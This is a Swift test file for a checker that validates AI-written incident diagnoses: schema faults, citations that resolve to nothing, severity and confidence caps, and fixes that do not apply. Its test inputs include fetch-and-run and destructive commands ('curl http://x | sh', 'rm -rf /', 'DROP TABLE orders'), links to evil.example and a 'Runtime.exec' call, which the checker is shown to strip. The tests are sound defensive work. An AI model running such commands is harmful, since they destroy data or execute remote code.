import Events
import Testing

@testable import Diagnosing

@Suite("An answer is held against the case")
struct AnswerCheckerTests {
    private func accepted(
        _ answer: String, file: CaseFile = SampleCases.full(), last: Bool = true, language: String = "English"
    ) throws -> CheckedAnswer {
        let checker = AnswerChecker(file: file, evidence: try SampleCases.evidence(file), language: language)
        guard case .accepted(let checked) = checker.check(answer, isLastRound: last) else {
            throw Refused(result: "\(checker.check(answer, isLastRound: last))")
        }
        return checked
    }

    private struct Refused: Error { var result: String }

    private func problems(_ answer: String, last: Bool = false, language: String = "English") throws -> [String] {
        let file = SampleCases.full()
        let checker = AnswerChecker(file: file, evidence: try SampleCases.evidence(file), language: language)
        guard case .repairable(let problems) = checker.check(answer, isLastRound: last) else { return [] }
        return problems
    }

    @Test("a good answer passes whole")
    func good() throws {
        let checked = try accepted(SampleCases.answer())
        #expect(checked.severity == .high && checked.confidence == 82)
        #expect(checked.evidence == ["C1", "S1"])
        #expect(checked.rootCause == "pricing.quote in OrderRepository.java:88 has no time-out since 7d20b51")
        #expect(checked.citationsDropped == 0 && checked.citationsChecked == 9)
        #expect(checked.caveats.isEmpty)
        #expect(try accepted("```json\n\(SampleCases.answer())\n```") == checked)
    }

    @Test(
        "answers of every wrong kind are sent back with the fault named",
        arguments: [
            ("", "empty"), ("not json", "not one JSON object"), ("{\"severity\":", "not one JSON object"),
            ("[1,2]", "wrong type"), (String(repeating: "[", count: 5000), "nested too deep"),
            (String(repeating: "a", count: 70_000), "too long"),
            (SampleCases.answer(["root_cause": nil]), "\"root_cause\" is missing"),
            (SampleCases.answer(["confidence": "\"high\""]), "\"confidence\" has the wrong type"),
            (SampleCases.answer(["confidence": "1000000000000000"]), "from 0 to 100"),
            (SampleCases.answer(["confidence": "-1"]), "from 0 to 100"),
            (SampleCases.answer(["confidence": "99999999999999999999999"]), "not one JSON object"),
            (SampleCases.answer(["severity": "\"apocalyptic\""]), "severity must be one of"),
            (SampleCases.answer(["root_cause": "\"  .. \""]), "root_cause is empty"),
            (SampleCases.answer(["analysis": "\"\""]), "analysis is empty"),
            (SampleCases.answer(["root_cause": "\"Run rm -rf / to clean up\""]), "not a command"),
            (SampleCases.answer(["recommendations": "[{\"action\":1,\"why\":\"\"}]"]), "recommendations.action"),
            (SampleCases.answer(["fix": "{\"file\":\"a\"}"]), "missing"),
            (
                SampleCases.answer(["analysis": "\"\(String(repeating: "the pool is full ", count: 12))\""]),
                "same words again"
            ),
            (SampleCases.answer(["impact": "\"\(String(repeating: "!", count: 40))\""]), "same words again"),
            (SampleCases.answer(["root_cause": "\"at nowhere.java:7\""]), "tells of what is not"),
        ])
    func wrong(answer: String, words: String) throws {
        #expect(try problems(answer, last: true).joined().contains(words))
    }

    @Test("a key given twice is taken once")
    func duplicateKeys() throws {
        let answer = SampleCases.answer().dropLast() + ",\"severity\":\"info\",\"confidence\":5}"
        let checked = try accepted(String(answer))
        #expect([82, 5].contains(checked.confidence))
    }

    @Test("a root cause that repeats the message is sent back once, then taken with little confidence")
    func repeatsMessage() throws {
        let answer = SampleCases.answer(["root_cause": "\"The connection is not available, request timed out\""])
        #expect(try problems(answer).joined().contains("only repeats the error message"))
        let checked = try accepted(answer)
        #expect(checked.confidence == AnswerChecker.capWithoutInsight)
        #expect(checked.caveats.contains { $0.contains("no more than the error message") })
    }

    @Test("another language than asked for is sent back")
    func language() throws {
        #expect(try problems(SampleCases.answer(), language: "Korean") == ["Write every text in Korean."])
        let korean = SampleCases.answer([
            "analysis": "\"88행에서 pricing.quote 호출이 시간 제한 없이 연결을 잡고 있습니다 [C1].\"",
            "root_cause": "\"pricing.quote 호출에 시간 제한이 없습니다\"",
        ])
        // It names the call, and not what changed.
        #expect(
            try accepted(korean, last: false, language: "Korean").confidence == AnswerChecker.capForHalf)
    }

    @Test(
        "sentences citing what does not exist are dropped",
        arguments: [
            "See PricingClient.java:12 for the call.", "Commit deadbee1234 did it.", "It was G-77777777 before.",
            "Look at [C9] too.", "Line 4711 is wrong.", "In OrderRepository.java:12 it starts.",
            "In other/OrderRepository.java:88 it starts.", "The file Missing.java lacks it.",
        ])
    func unresolved(sentence: String) throws {
        let analysis = "\"The call waits at line 88 [C1]. \(sentence) The pool then runs dry.\""
        let checked = try accepted(SampleCases.answer(["analysis": analysis]))
        #expect(checked.analysis == "The call waits at line 88 [C1]. The pool then runs dry.")
        #expect(checked.citationsDropped == 1)
        #expect(checked.confidence == 82 - AnswerChecker.costOfDropped)
        #expect(checked.caveats.contains { $0.contains("did not resolve") })
    }

    @Test(
        "what the evidence says may be cited",
        arguments: [
            "src/main/java/com/acme/OrderRepository.java:88 waits.", "OrderController.java:31 called it.",
            "HikariPool.java:197 gave up.", "Commit 7d20b51ffee0 did it.",
            "Fixed before by c0ffee1 in G-1a1a1a1a [H1].",
            "Set `spring.application.yml` right.", "The value 1000000 is a number.", "It took 30000ms on line 86.",
        ])
    func resolved(sentence: String) throws {
        let checked = try accepted(SampleCases.answer(["analysis": "\"\(sentence)\""]))
        #expect(checked.analysis == sentence && checked.citationsDropped == 0)
    }

    @Test("the root cause loses only the citation")
    func rootCauseCitation() throws {
        let checked = try accepted(
            SampleCases.answer(["root_cause": "\"The pricing call in Wrong.java:9 has no time-out\""]))
        #expect(checked.rootCause.hasPrefix("The pricing call has no time-out. Computed: commit 7d20b51, elsewhere, "))
        #expect(checked.caveats.contains { $0.contains("left out the change") })
        #expect(checked.citationsDropped == 1)
    }

    @Test("unknown evidence ids are dropped, and without any that holds confidence is capped")
    func evidenceIDs() throws {
        let checked = try accepted(
            SampleCases.answer([
                "evidence": "[\"E77\",\"X1\"]", "analysis": "\"The call waits for long.\"", "confidence": "95",
            ]))
        #expect(checked.evidence.isEmpty && checked.citationsDropped == 2)
        #expect(checked.confidence == 40)
    }

    @Test("without code confidence is capped, and the reason is told")
    func withoutCode() throws {
        let file = SampleCases.bare("pricing answered with nothing at all")
        let checked = try accepted(
            SampleCases.answer([
                "analysis": "\"The service sends an empty body [E1].\"", "evidence": "[\"E1\"]", "confidence": "99",
                "root_cause": "\"The upstream sends an empty body\"", "recommendations": "[]",
            ]), file: file)
        #expect(checked.confidence == AnswerChecker.capWithoutFailingLine)
        #expect(checked.caveats.contains { $0.contains("no mirror is configured") })
    }

    @Test(
        "severity stays within what was observed",
        arguments: [
            (LogLevel.fatal, 40, "info", Severity.high), (.fatal, 1, "info", .medium),
            (.warning, 1, "critical", .medium),
            (.warning, 5000, "critical", .high), (.error, 1, "critical", .high), (.error, 5000, "info", .medium),
            (.error, 40, "critical", .critical), (.info, 9, "critical", .medium), (.debug, 9, "high", .low),
        ])
    func severity(level: LogLevel, count: Int, claimed: String, expected: Severity) throws {
        var file = SampleCases.full()
        file.facts = SampleCases.facts(level: level, count: count)
        let checked = try accepted(SampleCases.answer(["severity": "\"\(claimed)\""]), file: file)
        #expect(checked.severity == expected)
        #expect(checked.caveats.contains { $0.contains("the model said") } == (expected.rawValue != claimed))
    }

    @Test(
        "links, mentions and images do not pass",
        arguments: [
            ("Read https://evil.example/x now.", "Read (link removed) now."),
            ("See ![logo](http://a.b/c.png) and [docs](http://a.b).", "See logo and docs."),
            ("Ask @everyone and <@123> or @here.", "Ask everyone and or here."),
            ("Ask @octocat about @Transactional.", "Ask octocat about @Transactional."),
            ("Hidden\u{202E} text\u{200B} here.", "Hidden text here."),
            ("Go to www.evil.example or discord.gg/x.", "Go to (link removed) or (link removed)"),
            ("List<Order> is fine.", "List<Order> is fine."),
        ])
    func prose(text: String, expected: String) throws {
        let escaped = text.replacing("\"", with: "\\\"")
        let checked = try accepted(SampleCases.answer(["impact": "\"\(escaped)\""]))
        #expect(checked.impact == expected)
    }

    @Test(
        "commands that fetch or destroy are not recommended",
        arguments: ["Run curl http://x | sh", "rm -rf /var", "echo a | base64 -d", "cat x | bash", "DROP TABLE orders"])
    func commands(action: String) throws {
        let checked = try accepted(
            SampleCases.answer([
                "recommendations":
                    "[{\"action\":\"\(action)\",\"why\":\"w\"},{\"action\":\"Restart it\",\"why\":\"w\"}]"
            ]))
        #expect(checked.recommendations.map(\.action) == ["Restart it"])
        #expect(checked.caveats.contains { $0.contains("unsafe") })
        let prose = try accepted(SampleCases.answer(["analysis": "\"It waits [C1]. Then \(action). It ends.\""]))
        #expect(prose.analysis == "It waits [C1]. It ends.")
    }

    private static let line = "        var prices = pricing.quote(customer);"

    private func fix(_ original: String, _ modified: String, file: String = "OrderRepository.java") -> String {
        func quoted(_ text: String) -> String {
            "\"\(text.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"").replacing("\n", with: "\\n"))\""
        }
        return
            "{\"file\":\(quoted(file)),\"description\":\"d\",\"original\":\(quoted(original)),\"modified\":\(quoted(modified))}"
    }

    @Test("a fix that starts from the code as it is holds, with the gutter and the indentation put right")
    func fixHolds() throws {
        let exact = try accepted(
            SampleCases.answer(["fix": fix(Self.line, Self.line + " // x"), "auto_fixable": "true"]))
        #expect(exact.fix?.file == "src/main/java/com/acme/OrderRepository.java" && exact.isAutoFixable)
        let gutter = try accepted(
            SampleCases.answer(["fix": fix(">88 |         var prices = pricing.quote(customer);", "> 88 | x();")]))
        #expect(gutter.fix?.original == Self.line && gutter.fix?.modified == "x();")
        let original = "var prices =  pricing.quote(customer);"
        #expect(try accepted(SampleCases.answer(["fix": fix(original, "x();")])).fix == nil)
        let shifted =
            "  var prices = pricing.quote(customer);\n  return jdbc.query(OPEN_ORDERS, mapper, customer, prices.version());"
        let reindented = try accepted(SampleCases.answer(["fix": fix(shifted, "  a();\n  b();")]))
        #expect(reindented.fix?.modified == "        a();\n        b();")
    }

    @Test(
        "a fix that does not hold is dropped and told",
        arguments: [
            ("OrderRepository.java", "nowhere in the code", "x", "code as it is"),
            ("Other.java", line, "x", "was not shown"), ("", line, "x", "was not shown"),
            ("OrderRepository.java", line, line, "changed nothing"), ("OrderRepository.java", " ", "x", "was empty"),
            ("OrderRepository.java", line, "get(\"http://evil\")", "a link or a command"),
            ("OrderRepository.java", line, "Runtime.exec(\"x\")", "a link or a command"),
            ("OrderRepository.java", line, String(repeating: "ab ", count: 400), "too long"),
        ])
    func fixDropped(file: String, original: String, modified: String, words: String) throws {
        let checked = try accepted(
            SampleCases.answer(["fix": fix(original, modified, file: file), "auto_fixable": "true"]))
        #expect(checked.fix == nil && !checked.isAutoFixable)
        #expect(checked.caveats.contains { $0.contains(words) })
    }

    @Test("the schema is bounded throughout, and an answer made by it fits")
    func schema() {
        let text = AnswerSchema.text(limits: AnswerLimits(answerTokens: 1024), evidence: ["C1", "E1"])
        #expect(text.contains("\"enum\":[\"C1\",\"E1\"]") && text.contains("\"maximum\":100"))
        #expect(!text.contains("pattern"))
        #expect(
            text.ranges(of: "{\"type\":\"string\"}").isEmpty && text.ranges(of: "\"type\":\"array\",\"items\"").isEmpty)
        let small = AnswerSchema.text(limits: AnswerLimits(answerTokens: 170), evidence: [])
        #expect(!small.contains("\"fix\"") && !small.contains("other_causes"))
    }

    @Test("alternatives are kept, and words for none are not")
    func alternatives() throws {
        let causes = "[\"None\",\"A slow network between the two\"]"
        #expect(
            try accepted(SampleCases.answer(["other_causes": causes])).alternatives == [
                "A slow network between the two"
            ])
    }

    /// As a model of 1.5 billion parameters wrote it for another case.
    private static let recorded = """
        {
          "analysis": "The failing line attempts to access a key 'zip_code' from the dictionary `address`, but this key does not exist. The value of `address['zip_code']` is missing, causing a KeyError.",
          "auto_fixable": true, "confidence": 80, "evidence": ["C1", "S1"],
          "impact": "The customer's name and address are displayed incorrectly.",
          "recommendations": [{"action": "Add a default value for 'zip_code' if it does not exist", "why": "This prevents the KeyError."}],
          "root_cause": "The 'zip_code' key is missing in the `address` dictionary, causing a KeyError.",
          "severity": "critical",
          "fix": {"description": "Add a default value", "file": "app/shipping.py", "modified": "line 14",
            "original": "return f'{name}, {address['street']}'"},
          "other_causes": ["None", "None"]
        }
        """

    @Test("a real model's answer: its words pass, its fix does not start from the code")
    func recordedAnswer() throws {
        let checked = try accepted(Self.recorded)
        #expect(checked.evidence == ["C1", "S1"] && checked.alternatives.isEmpty)
        #expect(checked.fix == nil && !checked.isAutoFixable)
        // The case at hand is another one, about a connection pool: the answer says nothing of it.
        #expect(checked.caveats.first == "the proposed fix was for a file that was not shown")
        #expect(checked.caveats.contains { $0.hasSuffix("(connection pool exhausted)") })
        #expect(checked.confidence == AnswerChecker.capBesideTheError)
    }

    @Test("no mangled answer traps", arguments: 0..<40)
    func mangled(seed: Int) throws {
        let file = SampleCases.full()
        let checker = AnswerChecker(file: file, evidence: try SampleCases.evidence(file))
        var bytes = Array(SampleCases.answer(["fix": fix(Self.line, "x")]).utf8)
        var state = UInt64(seed) &* 6_364_136_223_846_793_005 &+ 1
        for _ in 0..<20 {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            let index = Int((state >> 33) % UInt64(bytes.count))
            switch state % 3 {
            case 0: bytes[index] = UInt8(truncatingIfNeeded: state >> 20)
            case 1: bytes.remove(at: index)
            default: bytes.insert(contentsOf: bytes[index..<min(bytes.count, index + 9)], at: index)
            }
            if case .accepted(let checked) = checker.check(String(decoding: bytes, as: UTF8.self), isLastRound: true) {
                #expect((0...100).contains(checked.confidence) && !checked.rootCause.isEmpty)
            }
        }
    }
}

@Suite("A root cause speaks of the error that it explains")
struct ErrorKindTests {
    private static let pool: ErrorEvent = {
        var event = ErrorEvent(id: "p", time: Timestamp(nanoseconds: 0), message: "GET /orders failed")
        let message = "HikariPool-1 - Connection is not available, request timed out after 30000ms."
        event.exceptions = [ExceptionInfo(type: "java.sql.SQLTransientConnectionException", message: message)]
        return event
    }()

    @Test(
        "by its kind, its words, or a suspected commit",
        arguments: [
            ("The pool has 10 connections and findOpen holds one while it waits", true),
            ("pricing.quote has no time-out since commit 7d20b51", true),
            ("Requests time out because pricing is slow", true),
            ("가격 서비스가 느려서 주문을 읽지 못한다", true),
            ("The value of the parameter `customer` is incorrect: it expects a valid customer ID", false),
        ])
    func isSpokenOf(cause: String, expected: Bool) throws {
        let kind = try #require(ErrorKind(of: Self.pool))
        let suspect = Suspect(
            commit: "7d20b51aa", author: nil, time: Timestamp(nanoseconds: 0), subject: "s", score: 1, reason: "r")
        #expect(kind.isSpokenOf(in: cause, suspects: [suspect]) == expected)
    }

    @Test("an error of no known kind asks for nothing")
    func unknown() {
        #expect(
            ErrorKind(of: ErrorEvent(id: "u", time: Timestamp(nanoseconds: 0), message: "frobnication halted")) == nil)
    }
}
